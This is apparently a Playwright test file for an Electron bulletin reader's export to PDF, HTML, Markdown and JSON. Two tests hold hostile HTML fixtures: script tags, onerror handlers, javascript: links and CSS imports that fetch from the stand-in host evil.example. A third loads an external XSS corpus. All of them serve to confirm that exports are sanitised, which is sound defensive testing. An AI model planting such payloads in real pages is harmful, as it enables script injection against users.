import { existsSync } from 'node:fs';
import { mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { PNG } from 'pngjs';
import type { Page } from '@playwright/test';
import type { ExportOptions, ExportOutcome, ExportScope } from '../../preload/contract';
import { generateBulletins, writeArchive } from '../bench/generateArchive';
import { expect, test, type App } from './fixtures';
import { makeBulletin, writeShards } from './support/archive';
import { corporaFolder, xssPayloads } from './support/corpora';
import {
  differingShare,
  internalLinks,
  outline,
  pageCount,
  pdfInfo,
  pdfText,
  renderPage,
  withoutSpaces,
} from './support/pdf';
import { bulletinList, bulletinRows, searchBox } from './support/ui';

const REFERENCE = fileURLToPath(new URL('./reference/export-cover-a4.png', import.meta.url));
/** The cover shows the export date: pinned, so the cover can be compared with its reference. */
const EXPORTED_AT = '2026-03-02T10:00:00.000Z';
/**
 * Share of the cover's pixels (413 × 584 at 50 dpi) allowed to differ: room for anti-aliasing,
 * while a changed word of the title (about 0.5 %) fails.
 */
const PIXEL_TOLERANCE = 0.002;

/** Titles of the bundled sample digest, newest first (the order of the "All bulletins" view). */
const SAMPLE_TITLES = [
  'IOM provides technical support for new migration reception station in Panama',
  "IOM and the Municipality of San José inaugurate a children's playground in the community of Barrio Cuba",
  'New Central American Campaigns Combat Misinformation about Migration',
  'IOM Costa Rica delivers plans to the General Directorate of Migration and Aliens (DGME) to build a new center for migrants',
  'IOM and the Organization of Eastern Caribbean States partner to strengthen migration management in the region',
  'Four countries discuss the role of their consular staff in protecting migrant workers',
  'El Salvador and Belize share experiences in protecting migrant children and adolescents',
  'Young people from Mexico and Central America train in the creation of digital content about migration',
  'Communication experts advance towards a better understanding of migration in Honduras',
  'RCM concludes a week of technical exchange on migrant smuggling',
];

/** Replaces main's clock with one stopped at `iso` (the function runs in main, like Playwright's evaluate). */
async function pinClock(app: App, iso: string): Promise<void> {
  await app.evaluate((_electron, at) => {
    const RealDate = Date;
    const fixed = new RealDate(at).getTime();
    class PinnedDate extends RealDate {
      constructor(...args: ConstructorParameters<typeof Date> | []) {
        if (args.length === 0) super(fixed);
        else super(...(args as ConstructorParameters<typeof Date>));
      }
      static override now() {
        return fixed;
      }
    }
    globalThis.Date = PinnedDate as DateConstructor;
  }, iso);
}

/** Exports through the bridge, as the dialog does, with the remembered options and `changes`. */
async function exportThroughBridge(
  page: Page,
  scope: ExportScope,
  changes: Partial<ExportOptions>,
): Promise<ExportOutcome | null> {
  return page.evaluate(
    async ({ scope, changes }) => {
      const options = await window.bulletins.exportOptions();
      return window.bulletins.exportBulletins({ scope, options: { ...options, ...changes } });
    },
    { scope, changes },
  );
}

test.describe('PDF export', () => {
  test('the sample digest becomes one PDF with cover, contents, outline, page numbers and links', async ({
    launch,
  }, testInfo) => {
    const folder = testInfo.outputPath('exports');
    await mkdir(folder, { recursive: true });
    const file = join(folder, 'Sample digest.pdf');
    const app = await launch({ dialogs: { save: [file] } });
    const page = await app.firstWindow();
    await expect(bulletinRows(page)).toHaveCount(10);
    await pinClock(app, EXPORTED_AT);

    const outcome = await exportThroughBridge(
      page,
      { kind: 'view', view: 'all' },
      { title: 'Sample digest' },
    );
    expect(outcome).toMatchObject({ status: 'done', fileName: 'Sample digest.pdf', count: 10 });

    // Cover, contents, ten bulletins each on its own page (a long one may take two).
    const pages = await pageCount(file);
    expect(pages).toBeGreaterThanOrEqual(12);
    expect(pages).toBeLessThanOrEqual(22);
    const info = await pdfInfo(file);
    expect(info).toMatch(/^Tagged:\s+yes/m);
    expect(info).toMatch(/^Page size:\s+595\.\d+ x 842\.\d+ pts \(A4\)/m);
    expect(info).toMatch(/^Title:\s+Sample digest/m);

    const cover = await pdfText(file, 1);
    expect(cover).toContain('Sample digest');
    expect(cover).toContain('10 bulletins');
    expect(cover).toContain('March 2, 2026');
    expect(cover).toContain('All bulletins');
    expect(cover).toContain(`Page 1 of ${pages}`);
    expect(await pdfText(file, 2)).toContain('Contents');

    // Every title, in the list's order, after the contents page (pdftotext may break a long title).
    const body = withoutSpaces((await pdfText(file)).split('\f').slice(2).join(' '));
    let from = 0;
    for (const title of SAMPLE_TITLES) {
      const at = body.indexOf(withoutSpaces(title), from);
      expect(at, title).toBeGreaterThanOrEqual(from);
      from = at + 1;
    }

    const bytes = new Uint8Array(await readFile(file));
    const entries = await outline(bytes);
    const bulletinEntries = entries.filter((entry) => entry.page > 2);
    expect(bulletinEntries.map((entry) => withoutSpaces(entry.title))).toEqual(
      SAMPLE_TITLES.map(withoutSpaces),
    );

    // The contents page links each title to the page where that bulletin starts.
    const links = await internalLinks(bytes);
    const targets = new Map(links.map((link) => [link.name, link]));
    expect(targets.size).toBe(10);
    for (const [index, title] of SAMPLE_TITLES.entries()) {
      const link = targets.get(`bulletin-${index + 1}`);
      expect(link?.onPage, title).toBe(2);
      expect(link?.toPage, title).toBe(bulletinEntries[index]?.page);
      const text = withoutSpaces(await pdfText(file, link?.toPage ?? 0));
      expect(text.startsWith(withoutSpaces(`Sample digest ${title}`)), title).toBe(true);
    }

    // The cover looks as it did when the reference was stored (UPDATE_REFERENCE=1 stores it anew).
    const picture = await renderPage(file, 1);
    if (process.env.UPDATE_REFERENCE) {
      await mkdir(dirname(REFERENCE), { recursive: true });
      await writeFile(REFERENCE, PNG.sync.write(picture));
      console.log(`[export] stored a new reference picture of the cover: ${REFERENCE}`);
    }
    expect(existsSync(REFERENCE), 'no reference picture: run once with UPDATE_REFERENCE=1').toBe(true);
    const reference = PNG.sync.read(await readFile(REFERENCE));
    expect(differingShare(picture, reference)).toBeLessThanOrEqual(PIXEL_TOLERANCE);

    // Nothing but the finished file in the folder: no temporary file left behind.
    expect(await readdir(folder)).toEqual(['Sample digest.pdf']);
  });

  test('an Arabic bulletin keeps its words and lays out right to left', async ({
    launch,
    userDataDir,
  }, testInfo) => {
    const words = ['المنظمة', 'الدولية', 'للهجرة', 'تدعم', 'المهاجرين', 'في', 'ليبيا'];
    await writeShards(userDataDir, [
      makeBulletin({
        id: 'ar-1',
        title: 'المنظمة الدولية للهجرة تدعم المهاجرين',
        language: 'ar',
        published: '2024-05-01',
        bodyHtml: `<p>${words.join(' ')}</p>`,
      }),
      makeBulletin({ id: 'en-1', title: 'An English bulletin', published: '2024-04-01' }),
    ]);
    const file = testInfo.outputPath('arabic.pdf');
    const app = await launch({ dialogs: { save: [file] } });
    const page = await app.firstWindow();
    await expect(bulletinRows(page)).toHaveCount(2);

    const outcome = await exportThroughBridge(page, { kind: 'view', view: 'all' }, { title: 'Arabic' });
    expect(outcome).toMatchObject({ status: 'done', count: 2 });
    const text = await pdfText(file);
    for (const word of words) expect(text).toContain(word);

    // Right to left: the Arabic title ends at the right margin, the English one starts at the left.
    const picture = await renderPage(file, 3, 30);
    const english = await renderPage(file, 4, 30);
    expect(inkCentre(picture)).toBeGreaterThan(inkCentre(english));
  });

  test('hostile HTML in a body neither runs, navigates nor reaches the network in the print window', async ({
    launch,
    userDataDir,
  }, testInfo) => {
    const hostile = [
      '<p>Visible paragraph</p>',
      '<script>fetch("https://evil.example/script")</script>',
      '<img src="x" onerror="fetch(\'https://evil.example/onerror\')">',
      '<img src="https://evil.example/pixel.png">',
      '<a href="javascript:fetch(\'https://evil.example/js\')">click</a>',
      '<iframe src="https://evil.example/frame"></iframe>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
      '<style>@import url("https://evil.example/style.css"); body { background: url(https://evil.example/bg.png) }</style>',
      '<svg><script>alert(1)</script></svg>',
      '<form action="https://evil.example/form"><input autofocus onfocus="alert(1)"></form>',
      '<div id="print-root">clobber</div>',
      // What only the reader's sanitiser does (the CSP alone would not): form controls' text goes,
      // a remote image leaves its alt text in brackets.
      '<button>Subscribe now</button>',
      '<img src="https://evil.example/chart.png" alt="Chart of arrivals">',
    ].join('');
    await writeShards(userDataDir, [makeBulletin({ id: 'bad', title: 'Hostile body', bodyHtml: hostile })]);
    const file = testInfo.outputPath('hostile.pdf');
    const app = await launch({ dialogs: { save: [file] } });
    const page = await app.firstWindow();
    await expect(bulletinRows(page)).toHaveCount(1);

    const outcome = await exportThroughBridge(page, { kind: 'view', view: 'all' }, { title: 'Hostile' });
    expect(outcome).toMatchObject({ status: 'done', count: 1 });
    const text = await pdfText(file);
    expect(text).toContain('Visible paragraph');
    expect(text).toContain('[Chart of arrivals]');
    expect(text).not.toContain('Subscribe now');
    if (app.host) {
      expect(await app.host.blockedRequests()).toEqual([]);
      expect((await app.host.dialogsShown()).map((dialog) => dialog.kind)).toEqual(['save']);
      expect(await app.host.openedExternally()).toEqual([]);
    }
  });

  test('no payload of the DOMPurify XSS corpus runs, navigates or reaches the network in the print window', async ({
    launch,
    userDataDir,
  }, testInfo) => {
    const corpora = corporaFolder();
    test.skip(!corpora, 'the XSS corpus (../shared/corpora or $BULLETIN_CORPORA) is absent');
    const payloads = xssPayloads();
    await writeShards(
      userDataDir,
      payloads.map(({ payload }, index) =>
        makeBulletin({
          id: `xss-${index}`,
          title: `Payload ${index + 1}`,
          bodyHtml: payload,
          summary: payload,
        }),
      ),
    );
    const file = testInfo.outputPath('xss.pdf');
    const app = await launch({ dialogs: { save: [file] } });
    const page = await app.firstWindow();
    await expect(bulletinRows(page).first()).toBeVisible();

    const outcome = await exportThroughBridge(page, { kind: 'view', view: 'all' }, { title: 'XSS corpus' });
    expect(outcome).toMatchObject({ status: 'done', count: payloads.length });
    if (app.host) {
      expect(await app.host.blockedRequests()).toEqual([]);
      expect((await app.host.dialogsShown()).map((dialog) => dialog.kind)).toEqual(['save']);
      expect(await app.host.openedExternally()).toEqual([]);
    }
  });

  test('a note goes into the PDF under its bulletin when asked, and stays out otherwise', async ({
    launch,
  }, testInfo) => {
    const withNotes = testInfo.outputPath('with-notes.pdf');
    const withoutNotes = testInfo.outputPath('without-notes.pdf');
    const app = await launch({ dialogs: { save: [withNotes, withoutNotes] } });
    const page = await app.firstWindow();
    await expect(bulletinRows(page)).toHaveCount(SAMPLE_TITLES.length);
    await bulletinRows(page).first().click();
    await page.getByRole('textbox', { name: 'Your note' }).fill('Call the Panama office about capacity');
    await expect(page.getByText('Saved', { exact: true })).toBeVisible();

    const scope: ExportScope = { kind: 'view', view: 'all' };
    expect(await exportThroughBridge(page, scope, { title: 'Notes', includeNotes: true })).toMatchObject({
      status: 'done',
    });
    expect(await exportThroughBridge(page, scope, { title: 'No notes', includeNotes: false })).toMatchObject({
      status: 'done',
    });
    const noted = withoutSpaces(await pdfText(withNotes));
    const note = withoutSpaces('Call the Panama office about capacity');
    expect(noted).toContain(note);
    // Under its own bulletin: after that title, before the next one.
    const [first, second] = SAMPLE_TITLES.map(withoutSpaces);
    const body = noted.slice(noted.lastIndexOf(first ?? ''));
    expect(body.indexOf(note)).toBeLessThan(body.indexOf(second ?? ''));
    expect(withoutSpaces(await pdfText(withoutNotes))).not.toContain(note);
  });

  test('a cancelled save dialog writes nothing and opens no print window', async ({ launch }) => {
    const app = await launch({ dialogs: { save: [null] } });
    const page = await app.firstWindow();
    await expect(bulletinRows(page)).toHaveCount(10);
    expect(await exportThroughBridge(page, { kind: 'view', view: 'all' }, { title: 'Nothing' })).toBeNull();
    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
  });
});

/** The mean x of dark pixels: where a page's text sits. */
function inkCentre(picture: PNG): number {
  let sum = 0;
  let count = 0;
  // Skip the header band (the export title, centred) and the footer.
  for (let y = Math.round(picture.height * 0.08); y < picture.height * 0.3; y++) {
    for (let x = 0; x < picture.width; x++) {
      const offset = (y * picture.width + x) * 4;
      if ((picture.data[offset] ?? 255) < 128) {
        sum += x;
        count++;
      }
    }
  }
  return count === 0 ? 0 : sum / count;
}

test.describe('Export in the window', () => {
  test('File > Export… and the list button open an accessible dialog; choices are remembered; the notice shows and opens the file', async ({
    launch,
  }, testInfo) => {
    const folder = testInfo.outputPath('exports');
    await mkdir(folder, { recursive: true });
    const file = join(folder, 'Letter.pdf');
    const app = await launch({ dialogs: { save: [file] } });
    const page = await app.firstWindow();
    await expect(bulletinRows(page)).toHaveCount(10);

    // The menu item opens the dialog on the list's view; Esc closes it and focus goes back.
    await bulletinList(page).focus();
    await app.evaluate(({ Menu }) => Menu.getApplicationMenu()?.getMenuItemById('file-export')?.click());
    const dialog = page.getByRole('dialog', { name: 'Export bulletins' });
    await expect(dialog).toBeVisible();
    await expect(dialog).toContainText('10 bulletins from All bulletins');
    await expect(dialog.getByRole('textbox', { name: 'Title' })).toBeFocused();
    await expect(dialog.getByRole('textbox', { name: 'Title' })).toHaveValue('All bulletins');
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
    await expect(bulletinList(page)).toBeFocused();

    // The list header's button: every control is reachable and named.
    await page.getByRole('button', { name: 'Export…' }).click();
    await expect(dialog).toBeVisible();
    // Focus stays in the dialog, both ways round.
    for (const key of ['Tab', 'Shift+Tab']) {
      for (let press = 0; press < 14; press++) {
        await page.keyboard.press(key);
        expect(await page.evaluate(() => Boolean(document.activeElement?.closest('dialog'))), key).toBe(true);
      }
    }
    await dialog.getByRole('textbox', { name: 'Title' }).fill('Letter landscape');
    await dialog.getByRole('checkbox', { name: 'Cover page' }).uncheck();
    await dialog.getByRole('combobox', { name: 'Page size' }).selectOption('Letter');
    await dialog
      .getByRole('radiogroup', { name: 'Orientation' })
      .getByRole('radio', { name: 'Landscape' })
      .check();
    await dialog.getByRole('radio', { name: 'One after another' }).check();
    await dialog.getByRole('button', { name: 'Export' }).click();

    const notice = page.getByRole('region', { name: 'Notifications' });
    await expect(notice).toContainText('Exported 10 bulletins to Letter.pdf.');
    expect(await pdfInfo(file)).toMatch(/^Page size:\s+792 x 612 pts \(letter\)/m);
    // No cover: the contents come first. Flowing: fewer pages than bulletins.
    expect(await pdfText(file, 1)).toContain('Contents');
    expect(await pageCount(file)).toBeLessThan(10);

    await notice.getByRole('button', { name: 'Show in folder' }).click();
    await notice.getByRole('button', { name: 'Open' }).click();
    if (app.host) {
      await expect
        .poll(() => app.host?.shellCalls())
        .toEqual([
          { method: 'showItemInFolder', target: file },
          { method: 'openPath', target: file },
        ]);
    }

    // The choices are remembered (the title is the list's again).
    await page.getByRole('button', { name: 'Export…' }).click();
    await expect(dialog.getByRole('checkbox', { name: 'Cover page' })).not.toBeChecked();
    await expect(dialog.getByRole('combobox', { name: 'Page size' })).toHaveValue('Letter');
    await expect(dialog.getByRole('radio', { name: 'Landscape' })).toBeChecked();
    await expect(dialog.getByRole('radio', { name: 'One after another' })).toBeChecked();
    await expect(dialog.getByRole('textbox', { name: 'Title' })).toHaveValue('All bulletins');
  });

  test('a search exports its results, named after the search', async ({ launch }, testInfo) => {
    const file = testInfo.outputPath('search.pdf');
    const app = await launch({ dialogs: { save: [file] } });
    const page = await app.firstWindow();
    await expect(bulletinRows(page)).toHaveCount(10);
    await searchBox(page).fill('Honduras');
    await expect(bulletinRows(page)).not.toHaveCount(10);
    const count = await bulletinRows(page).count();

    await page.getByRole('button', { name: 'Export…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Export bulletins' });
    await expect(dialog.getByRole('textbox', { name: 'Title' })).toHaveValue(
      'Search for “Honduras” in All bulletins',
    );
    await dialog.getByRole('button', { name: 'Export' }).click();
    await expect(page.getByRole('region', { name: 'Notifications' })).toContainText(`to search.pdf`);
    const cover = await pdfText(file, 1);
    expect(cover).toContain('Search for “Honduras” in All bulletins');
    expect(cover).toContain(count === 1 ? '1 bulletin' : `${count} bulletins`);
  });
});

test('Cancel stops a large export and leaves no file, partial or whole', async ({
  launch,
  userDataDir,
}, testInfo) => {
  await writeArchive(userDataDir, generateBulletins(1500));
  const folder = testInfo.outputPath('exports');
  await mkdir(folder, { recursive: true });
  const app = await launch({ dialogs: { save: [join(folder, 'large.pdf')] } });
  const page = await app.firstWindow();
  await expect(bulletinRows(page).first()).toBeVisible();

  await page.getByRole('button', { name: 'Export…' }).click();
  await page
    .getByRole('dialog', { name: 'Export bulletins' })
    .getByRole('button', { name: 'Export' })
    .click();
  const progress = page.getByRole('region', { name: 'Export progress' });
  await expect(progress.getByRole('progressbar', { name: 'Export progress' })).toBeVisible();
  await progress.getByRole('button', { name: 'Cancel' }).click();

  await expect(page.getByRole('region', { name: 'Notifications' })).toContainText(
    'Export cancelled. No file was written.',
  );
  await expect(progress).toBeHidden();
  expect(await readdir(folder)).toEqual([]);
  // The print window is gone with the export.
  await expect.poll(() => app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
});

test.describe('Other formats', () => {
  test('HTML, Markdown and JSON hold the same bulletins in the same order; HTML and Markdown carry nothing that runs', async ({
    launch,
    userDataDir,
    runtime,
  }, testInfo) => {
    const hostile = makeBulletin({
      id: 'hostile',
      title: 'Hostile <b>title</b> [link](javascript:alert(1))',
      published: '2019-01-01',
      bodyHtml:
        '<p>Kept text</p><img src=x onerror="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)">bad link</a>',
    });
    await writeShards(userDataDir, [
      makeBulletin({
        id: 'one',
        title: 'First bulletin',
        published: '2024-02-01',
        link: 'https://example.org/1',
      }),
      makeBulletin({
        id: 'two',
        title: 'Second bulletin',
        published: '2024-01-01',
        bodyHtml: '<p>Body two</p>',
      }),
      hostile,
    ]);
    const files = { html: 'x.html', markdown: 'x.md', json: 'x.json' } as const;
    const app = await launch({
      dialogs: { save: Object.values(files).map((name) => testInfo.outputPath(name)) },
    });
    const page = await app.firstWindow();
    await expect(bulletinRows(page)).toHaveCount(3);
    for (const format of ['html', 'markdown', 'json'] as const) {
      const outcome = await exportThroughBridge(
        page,
        { kind: 'view', view: 'all' },
        { title: 'Formats', format },
      );
      expect(outcome, format).toMatchObject({ status: 'done', fileName: files[format], count: 3 });
    }

    const html = await readFile(testInfo.outputPath(files.html), 'utf8');
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain(`http-equiv="Content-Security-Policy" content="default-src 'none'`);
    expect(html).not.toMatch(/<script|onerror=|href="javascript:|<link|src="http/i);
    expect(html.indexOf('First bulletin')).toBeLessThan(html.indexOf('Second bulletin'));
    expect(html).toContain('Kept text');
    expect(html).toContain('href="#bulletin-2"');
    // It reads on its own, in a plain browser page (a new page: the host's Chromium only; Electron has none to give).
    if (runtime === 'host') {
      const viewer = await page.context().newPage();
      await viewer.setContent(html);
      await expect(viewer.getByRole('heading', { level: 2, name: 'Second bulletin' })).toBeVisible();
      await viewer.close();
    }

    const markdown = await readFile(testInfo.outputPath(files.markdown), 'utf8');
    const headings = [...markdown.matchAll(/^## (.*)$/gm)].map((match) => match[1]);
    expect(headings).toEqual([
      'Contents',
      'First bulletin',
      'Second bulletin',
      'Hostile \\<b\\>title\\</b\\> \\[link\\](javascript:alert(1))',
    ]);
    expect(markdown).toContain('1. [First bulletin](#bulletin-1)');
    expect(markdown).toContain('Original: <https://example.org/1>');
    expect(markdown).toContain('Kept text');
    expect(markdown).not.toMatch(/<script|onerror|<img/);

    const json = JSON.parse(await readFile(testInfo.outputPath(files.json), 'utf8')) as {
      format: string;
      bulletins: unknown[];
    };
    expect(json.format).toBe('bulletin-reader/bulletins');
    const stored = new Map<string, unknown>();
    for (const name of await readdir(join(userDataDir, 'bulletins'))) {
      const shard = JSON.parse(await readFile(join(userDataDir, 'bulletins', name), 'utf8')) as {
        bulletins: { id: string }[];
      };
      for (const bulletin of shard.bulletins) stored.set(bulletin.id, bulletin);
    }
    // The archive's own records, every field, newest first: what an import needs to give them back.
    expect(json.bulletins).toEqual(['one', 'two', 'hostile'].map((id) => stored.get(id)));
  });
});
